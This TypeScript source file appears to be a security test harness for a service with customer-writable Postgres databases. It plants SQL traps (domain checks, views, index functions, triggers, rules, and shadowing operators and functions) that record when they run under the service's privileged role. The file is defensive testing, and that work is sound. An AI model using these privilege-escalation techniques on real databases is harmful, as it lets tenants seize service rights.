/**
 * The customer of a writable database makes the service parse or run their SQL with the service's own rights: views,
 * indexes, triggers, casts, and names that shadow ours. Whatever runs records its role in a row.
 */
import type postgres from "postgres";
import { until } from "../../support/poll";
import { type Attack, Tally } from "../attack";
import type { Connected, Service } from "../service";

const REBUILD_MS = 30_000;

/**
 * Adds a row to `loot` if it runs as a role other than the customer, or can become one; and leaves a search path in
 * which the customer's names come first.
 */
const TRAP = `
  create function {name}_evil(v text) returns boolean language plpgsql as $$ begin
    begin execute 'reset role'; exception when others then null; end;
    if current_user <> '{role}' then
      insert into public.loot (who, trap) values (current_user || ', superuser ' || current_setting('is_superuser'), '{name}');
    end if;
    begin perform set_config('search_path', 'public, pg_catalog', false); exception when others then null; end;
    return true; end $$;
  create domain {name}_trap as text check (public.{name}_evil(value));
  create type {name}_holder as (x {name}_trap);`;

/** Each with objects that depend on `tasks`, which a schema change creates again. */
const TRAPS: Record<string, string> = {
  view_of_domain: `create view {name} as select '(a)'::{name}_holder as h, t.id from tasks t;`,
  view_of_array: `create view {name} as select '{a}'::{name}_trap[] as h, t.id from tasks t;`,
  default_of_view: `create view {name} as select t.id, t.name from tasks t;
    alter view {name} alter column name set default '(a)'::{name}_holder::text;`,
  matview_index: `create function {name}_key(v text) returns text immutable language plpgsql as $$ begin
      perform public.{name}_evil(v); return v; end $$;
    create materialized view {name} as select t.id, t.name from tasks t;
    create index on {name} ((public.{name}_key(id)));`,
  matview_rows: `create materialized view {name} as select t.id, public.{name}_evil(t.id) as e from tasks t;`,
  trigger_when: `create view {name} as select t.id, t.name from tasks t;
    create function {name}_fired() returns trigger language plpgsql as $$ begin
      perform public.{name}_evil('x'); return new; end $$;
    create trigger {name}_t instead of insert on {name} for each row execute function {name}_fired();`,
  view_on_view: `create view {name}_under as select t.id from tasks t;
    create view {name} as select '(a)'::{name}_holder as h, u.id from {name}_under u;`,
  rule: `create view {name} as select t.id from tasks t;
    create rule {name}_r as on insert to {name} do instead select '(a)'::{name}_holder;`,
  operator_before_ours: `create function {name}_eq(text, text) returns boolean language plpgsql as $$ begin
      perform public.{name}_evil('x'); return $1 operator(pg_catalog.=) $2; end $$;
    create operator public.= (leftarg = text, rightarg = text, function = {name}_eq);`,
  function_before_ours: `create function public.format(text, text) returns text language plpgsql as $$ begin
      perform public.{name}_evil('x'); return pg_catalog.format($1, $2); end $$;
    create function public.coalesce_name(text) returns text language sql as 'select $1';`,
  comment_of_view: `create view {name} as select t.id from tasks t;
    comment on view {name} is $q$'; select public.{name}_evil('x'); --$q$;`,
  row_type: `create table {name}_own (t tasks, ok boolean check (public.{name}_evil('x')));
    insert into {name}_own values (null, true);`,
};

export const sqlEscape: Attack = {
  name: "sql-escape",
  finding: "S2",
  async run(service, rounds, random) {
    const tally = new Tally();
    const { mallory } = service.accounts;
    const source = await service.sourceBase("Writable");
    const key = await service.key({ [source.id]: "create" });
    const base = await service.connect(mallory, source, { api_key: key, settings: { live: false } });
    try {
      const { database } = await mallory.base(base.id);
      await service.operator("database", "set-writable", database.id, "on", "--json");
      const role = new URL(base.url).username;
      await base.sql.unsafe(`create table loot (who text, trap text); grant all on loot to public;`).simple();
      for (let round = 0; round < rounds; round++) {
        const names = Object.keys(TRAPS).map((kind) => `${kind}_${round}_${random.int(1, 1e6)}`);
        const set: string[] = [];
        for (const name of names) if (await lay(base.sql, name, role)) set.push(name);
        await base.sql`delete from loot`;
        await rebuild(service, base, `Field ${round}`);
        const loot = await base.sql<{ who: string; trap: string }[]>`select distinct who, trap from loot`;
        for (const name of set) {
          const ran = loot.find(({ trap }) => trap === name);
          tally.add(ran && `${name.replace(/_\d+_\d+$/, "")} ran as ${ran.who}`);
        }
        // Traps that could not be created count as refused.
        tally.addMany(names.length - set.length, 0, "");
        for (const name of names) await clear(base.sql, name);
      }
    } finally {
      await service.disconnect(base);
    }
    return tally;
  },
};

async function lay(sql: postgres.Sql, name: string, role: string): Promise<boolean> {
  const kind = name.replace(/_\d+_\d+$/, "");
  const text = (TRAP + TRAPS[kind]!).replaceAll("{name}", name).replaceAll("{role}", role);
  try {
    await sql.unsafe(text).simple();
    return true;
  } catch {
    return false;
  }
}

/** Only objects that depend on `tasks` would disturb the next round. */
async function clear(sql: postgres.Sql, name: string): Promise<void> {
  for (const statement of [
    `drop materialized view if exists ${name} cascade`,
    `drop view if exists ${name} cascade`,
    "drop operator if exists public.= (text, text)",
    "drop function if exists public.format(text, text)",
    "drop function if exists public.coalesce_name(text)",
    `drop table if exists ${name}_own`,
  ])
    await sql.unsafe(statement).catch(() => undefined);
}

/** Adds a field to the table, so that its replica is rebuilt, with all dependent objects. */
async function rebuild(service: Service, base: Connected, field: string): Promise<void> {
  const column = field.toLowerCase().replace(" ", "_");
  await service.sandbox.call("POST", `bases/${base.source.id}/tables/Tasks/fields`, {
    name: field,
    type: "singleLineText",
  });
  await until(
    async () => {
      const [row] = await base.sql<{ found: boolean }[]>`
        select exists (select from information_schema.columns
          where table_name = 'tasks' and column_name = ${column}) as found`;
      return row!.found;
    },
    { what: "the table is built again", timeoutMs: REBUILD_MS, intervalMs: 100, retryErrors: true },
  );
  // Views come after the table.
  const from = new Date().toISOString();
  await until(async () => ((await base.account.base(base.id)).sync.completed_at ?? "") > from, {
    what: "a sync after the rebuild",
    timeoutMs: REBUILD_MS,
    intervalMs: 100,
  });
}
